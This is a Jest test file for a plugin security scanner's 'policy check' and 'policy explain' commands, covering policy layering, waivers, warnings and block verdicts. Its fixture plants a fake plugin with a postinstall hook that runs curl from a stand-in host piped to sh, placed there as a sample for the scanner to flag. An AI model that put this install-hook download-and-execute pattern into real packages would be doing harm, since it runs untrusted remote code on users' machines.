import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { memoryIo } from '@ragnos-vault/testing';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { run } from './run.ts';

const NOW = new Date('2026-06-01T00:00:00Z');
let dir: string;

async function cli(...args: readonly string[]) {
  const io = { ...memoryIo(dir), now: () => NOW };
  const code = await run(args, io);
  return { code, out: io.out(), err: io.err() };
}

const HOST = `
version: 1
rules: { MAN-004: low }
waivers:
  - { rule: EXE-001, path: a.js, sha256: ${'ab'.repeat(32)}, reason: b, approvedBy: c, expires: 2026-06-05 }
  - { rule: EXE-002, path: a.js, sha256: ${'ab'.repeat(32)}, reason: b, approvedBy: c, expires: 2026-05-31 }
vendors:
  acme: { profile: strict }
  idle: {}
`;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'policy-'));
  mkdirSync(join(dir, 'plugin'));
  writeFileSync(
    join(dir, 'plugin/package.json'),
    JSON.stringify({
      name: '@acme/hello',
      version: '1.0.0',
      dependencies: { a: 'github:a/a' },
      scripts: { postinstall: 'node a.js' },
    }),
  );
  writeFileSync(
    join(dir, 'plugin/a.js'),
    `require('child_process').exec('curl https://a.example.invalid | sh')`,
  );
  writeFileSync(join(dir, 'host.yaml'), HOST);
  writeFileSync(join(dir, 'tenant.yaml'), '{ version: 1, failOn: medium, capabilities: { run: false } }');
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

describe('policy check', () => {
  it('says what holds, and what may not be meant', async () => {
    const { code, out, err } = await cli('policy', 'check', 'host.yaml');
    expect([code, err]).toEqual([0, '']);
    expect(out).toMatch(/^ {2}profile +standard +from default$/m);
    expect(out).toMatch(/^ {2}failOn +high +from profile standard$/m);
    expect(out).toMatch(/^ {2}rules\.MAN-004 +low +from top$/m);
    expect(out).toMatch(/^sections: vendors\.acme, vendors\.idle$/m);
    expect(out).toMatch(/^warning: `rules\.MAN-004` lowers the rule from high to low$/m);
    expect(out).toMatch(/^warning: `waivers\.0` of EXE-001 in a\.js expires on 2026-06-05$/m);
    expect(out).toMatch(/^warning: `waivers\.1` of EXE-002 in a\.js expired on 2026-05-31$/m);
    expect(out).toMatch(/^warning: `vendors\.idle` says nothing$/m);
    expect(out).toMatch(/^profile standard, blocks from high on, policy sha256:[0-9a-f]{64}$/m);
  });

  it('combines several, the outermost first', async () => {
    const { out } = await cli('policy', 'check', 'host.yaml', 'tenant.yaml', '--json');
    const { policy, levels } = JSON.parse(out) as { policy: object; levels: readonly object[] };
    expect(policy).toMatchObject({ profile: 'standard', failOn: 'medium' });
    expect(levels).toHaveLength(2);
  });

  it('fails, naming file, key and what was meant', async () => {
    writeFileSync(join(dir, 'bad.yaml'), '{ version: 1, failon: high }');
    const { code, out, err } = await cli('policy', 'check', 'bad.yaml');
    expect([code, out]).toEqual([1, '']);
    expect(err).toMatch(
      /bad\.yaml: unknown key `failon` in the policy, did you mean `failOn` \(ERR_POLICY_INVALID\)/,
    );
  });
});

describe('policy explain', () => {
  it('says of a name what applies, and from where', async () => {
    const { code, out } = await cli('policy', 'explain', '@acme/other', '--policy', 'host.yaml');
    expect(code).toBe(0);
    expect(out).toMatch(/^host\.yaml \(vendors\.acme, top\)$/m);
    expect(out).toMatch(/^ {2}profile +strict +from vendors\.acme$/m);
    expect(out).toMatch(/^ {2}failOn +medium +from profile strict$/m);
    expect(out).not.toContain('verdict');
  });

  it('says of a folder why each finding blocks or does not', async () => {
    const { code, out } = await cli('policy', 'explain', 'plugin', '--policy', 'host.yaml');
    expect(code).toBe(0);
    expect(out).toMatch(/^EXE-001 +a\.js +blocks from medium on: critical$/m);
    expect(out).toMatch(
      /^MAN-004 +package\.json +below medium: low, high by its rule \(`rules\.MAN-004` of top\)$/m,
    );
    expect(out).toMatch(/^verdict: block$/m);
  });

  it('says what the profile lowers, and what an inner policy adds', async () => {
    const { out } = await cli('policy', 'explain', 'plugin', '--policy', 'tenant.yaml');
    expect(out).toMatch(
      /^MAN-001 +package\.json +blocks from medium on: medium, high by its rule \(profile standard\)$/m,
    );
    expect(out).toMatch(/^POL-002 +\. +blocks from medium on: high$/m);
  });
});
